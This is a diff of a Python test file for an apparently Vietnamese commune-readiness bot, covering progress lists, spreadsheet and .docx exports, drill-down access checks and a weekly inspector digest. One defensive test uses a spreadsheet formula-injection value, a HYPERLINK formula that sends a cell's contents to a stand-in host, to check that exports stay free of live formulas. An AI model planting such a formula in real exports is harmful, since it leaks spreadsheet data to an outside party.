@@ -148,8 +148,9 @@ async def test_pacer_keeps_to_the_rate():
 
 def _seed_units(core, kb):
     u1 = core.storage.get_or_create_unit("xã", "Xã Lộc Bình", 20, "Lạng Sơn", 6529)
-    u2 = core.storage.get_or_create_unit("phường", "Phường Tam Thanh", 20, "Lạng Sơn", 6000)
-    for uid, unit in ((11, u1), (12, u1), (13, u2)):
+    u2 = core.storage.get_or_create_unit("phường", "Phường Tam Thanh", 20, "Lạng Sơn", 5986)
+    office = core.storage.get_or_create_unit("co-quan", "Sở Khoa học và Công nghệ", 20, "Lạng Sơn")
+    for uid, unit in ((11, u1), (12, u1), (13, u2), (ADMIN, office)):
         core.storage.touch_user(uid, f"u{uid}")
         core.storage.set_user_unit(uid, unit, confirmed=True)
     cl = kb.checklists["san-sang-dgnb"]
@@ -159,23 +160,88 @@ def _seed_units(core, kb):
     return u1, u2
 
 
-def test_progress_filters_and_exports(make_core, kb):
+def test_progress_lists_every_commune_of_the_province_laggards_first(make_core, kb):
     core = make_core()
-    _seed_units(core, kb)
+    u1, _ = _seed_units(core, kb)
+    core.storage.create_task({"unit_id": u1, "created_by": 11, "owner_id": 12, "source": "audit", "finding": "x",
+                             "what": "Cập nhật quy trình chứng thực", "due": "2026-11-20"})
     text = core.press(User(ADMIN), "pg:all").text
-    assert "Xã Lộc Bình" in text and "Phường Tam Thanh" in text
+    assert "Tiến độ Lạng Sơn: 65 xã, phường, 0 cơ quan" in text
+    assert "Chưa đăng ký: 63 · chưa tự đánh giá: 1 · điểm dưới 50: 0 · có việc quá hạn: 1" in text
+    assert "chưa ai đăng ký" in text and "Sở Khoa học" not in text        # the office is not a commune
     not_started = core.press(User(ADMIN), "pg:not-started").text
-    assert "Phường Tam Thanh" in not_started and "Xã Lộc Bình" not in not_started
+    assert "Phường Tam Thanh: 1 người, chưa tự đánh giá" in not_started and "Xã Lộc Bình" not in not_started
+    overdue = core.press(User(ADMIN), "pg:overdue").text
+    assert "Xã Lộc Bình: 2 người · điểm" in overdue and "việc: 1 mở, 1 quá hạn" in overdue
+    pages = [b.data for row in core.press(User(ADMIN), "pg:all").buttons for b in row if b.data.startswith("pn:")]
+    assert pages == ["pn:all:1"]
+    last = core.press(User(ADMIN), "pn:all:8").text                        # 65 rows, 8 a page: page 9
+    assert "Xã Lộc Bình" in last and "Phường Tam Thanh" in core.press(User(ADMIN), "pn:all:7").text
     xlsx = core.press(User(ADMIN), "px:all").attachment
     ws = load_workbook(io.BytesIO(xlsx.data)).active
     header = [c.value for c in ws[1]]
-    assert header[:4] == ["Đơn vị", "Tỉnh, thành phố", "Thành viên đã xác nhận", "Chờ xác nhận"]
-    rows = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
-    assert rows["Xã Lộc Bình"][2:4] == (2, 0) and rows["Xã Lộc Bình"][5] == 1 and rows["Xã Lộc Bình"][7] == 3
+    assert header[:5] == ["Đơn vị", "Tỉnh, thành phố", "Tình trạng", "Thành viên đã xác nhận", "Chờ xác nhận"]
+    rows = {r[0]: dict(zip(header, r)) for r in ws.iter_rows(min_row=2, values_only=True)}
+    assert len(rows) == 65 and rows["Xã Lộc Bình"]["Tình trạng"] == "Đã tự đánh giá"
+    lb = rows["Xã Lộc Bình"]
+    assert (lb["Thành viên đã xác nhận"], lb["Bảng kiểm đã xong"], lb["Nội dung chưa đạt"], lb["Việc quá hạn"]) == (2, 1, 3, 1)
+    assert rows["Xã Bình Gia"]["Tình trạng"] == "Chưa đăng ký"
     csv = core.press(User(ADMIN), "pv:below").attachment.data.decode("utf-8-sig")
     assert csv.splitlines()[0].startswith("Đơn vị,")
     chart = core.press(User(ADMIN), "pc:all").attachment
     assert chart.kind == "photo" and chart.data[:4] == b"\x89PNG"
+
+
+def test_drill_down_into_a_unit_and_its_readiness_pack(make_core, kb):
+    from docx import Document
+
+    core = make_core()
+    u1, _ = _seed_units(core, kb)
+    cl = kb.checklists["kiem-tra-tinh"]
+    run = core.storage.start_run(12, u1, cl.id)
+    for i, item in enumerate(cl.items):
+        core.press(User(12), f"ca:{run['id']}:{i}:{'c' if item.id == 'dgnb-nam-nay' else 'd'}")
+    core.storage.save_answer(run["id"], "quy-trinh-cap-nhat", note="Đã cập nhật 12 quy trình tháng 10")
+    tid = core.storage.create_task({"unit_id": u1, "created_by": 12, "owner_id": 11, "source": "checklist",
+                                    "run_id": run["id"], "checklist_id": cl.id, "item_id": "dgnb-nam-nay",
+                                    "finding": "x", "what": "Tổ chức ĐGNB năm 2026", "due": "2026-12-20"})
+    screen = core.press(User(ADMIN), "pd:6529")
+    assert "🔎 Xã Lộc Bình (Lạng Sơn)" in screen.text and "2 đã xác nhận, 0 chờ xác nhận" in screen.text
+    assert "Chuẩn bị cho đoàn kiểm tra của tỉnh: " in screen.text and "lần cuối: u12" in screen.text
+    assert f"#{tid} Tổ chức ĐGNB năm 2026 — u11, 20/12/2026" in screen.text
+    labels = {b.label: b.data for row in screen.buttons for b in row}
+    (answers,) = [d for label, d in labels.items() if label.startswith("📋 Câu trả lời: Chuẩn bị cho đoàn")]
+    report = core.press(User(ADMIN), answers)
+    assert report.attachment.file_name.endswith(".docx")
+    pack = core.press(User(ADMIN), labels["📄 Hồ sơ sẵn sàng đón kiểm tra (.docx)"]).attachment
+    doc = Document(io.BytesIO(pack.data))
+    text = "\n".join(p.text for p in doc.paragraphs)
+    cells = "\n".join(c.text for t in doc.tables for row in t.rows for c in row.cells)
+    assert "Đánh giá nội bộ ít nhất một lần mỗi năm" in text and "Điểm b khoản 4 Điều 4" in text
+    assert "❌ Chưa đạt" in cells and "Đã cập nhật 12 quy trình tháng 10" in cells
+    assert f"Việc #{tid}: Tổ chức ĐGNB năm 2026" in cells
+    assert core.press(User(11), labels["📄 Hồ sơ sẵn sàng đón kiểm tra (.docx)"]).attachment is not None  # a member
+    assert core.press(User(13), f"pk:{u1}").stale                           # another commune
+    assert "chỉ dành cho" in core.press(User(11), "pd:6529").text
+    from bot import units
+    from bot.members import join_code
+
+    other = next(p for p in units.wards().values() if p.province_code == 20 and p.code not in (6529, 5986))
+    unregistered = core.press(User(ADMIN), f"pd:{other.code}").text
+    code = join_code(core.storage, f"ward:{other.code}")
+    assert "Chưa có ai của đơn vị đăng ký" in unregistered and f"{code[:4]} {code[4:]}" in unregistered
+
+
+def test_weekly_digest_goes_to_inspectors_once_a_week(make_core, kb, clock):
+    core = make_core()
+    _seed_units(core, kb)
+    core.storage.touch_user(INSPECTOR, "Thanh tra")
+    core.storage.set_role(INSPECTOR, "inspector")
+    (bid,) = core.progress.digest()
+    b = core.storage.get_broadcast(bid)
+    assert "Chưa đăng ký: 63" in b["text"] and "/tiendo" in b["text"]
+    assert sorted(d["user_id"] for d in core.storage.db.query("SELECT user_id FROM deliveries")) == sorted([INSPECTOR, ADMIN])
+    assert core.progress.digest() == []
 
 
 def test_report_command_writes_xlsx(make_core, kb, config_file, tmp_path):
@@ -234,7 +300,7 @@ def test_exports_never_carry_live_formulas(make_core, config_file, capsys):
 
     core = make_core()
     evil = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
-    unit = core.storage.get_or_create_unit("co-quan", evil, 20, "Lạng Sơn")
+    unit = core.storage.get_or_create_unit("co-quan", evil, 20, "Lạng Sơn")   # an agency typed by name
     core.storage.touch_user(31, "u")
     core.storage.set_user_unit(31, unit)
     # questions are kept folded ("+SUM(1,2)" → "sum 1 2"), so a curator export can only meet a formula
